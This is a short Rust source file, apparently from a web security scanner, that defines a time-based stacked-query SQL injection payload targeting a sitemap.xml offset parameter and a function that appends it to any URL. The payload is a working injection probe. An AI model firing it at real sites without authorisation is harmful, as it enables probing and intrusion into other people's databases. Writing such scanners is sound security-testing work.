// File: payload.rs
// SPDX-License-Identifier: MIT OR Apache-2.0
//
// Copyright (c) 2025
// - Volker Schwaberow <volker@schwaberow.de>

/// Stacked-query payload that sleeps for nine seconds when the condition holds.
pub const SLEEP_PAYLOAD: &str = "/sitemap.xml?offset=1;SELECT%20IF((8303%3E8302),SLEEP(9),2356)#";

/// Appends the sleep payload to `url` verbatim.
pub fn inject(url: &str) -> String {
    format!("{}{}", url, SLEEP_PAYLOAD)
}
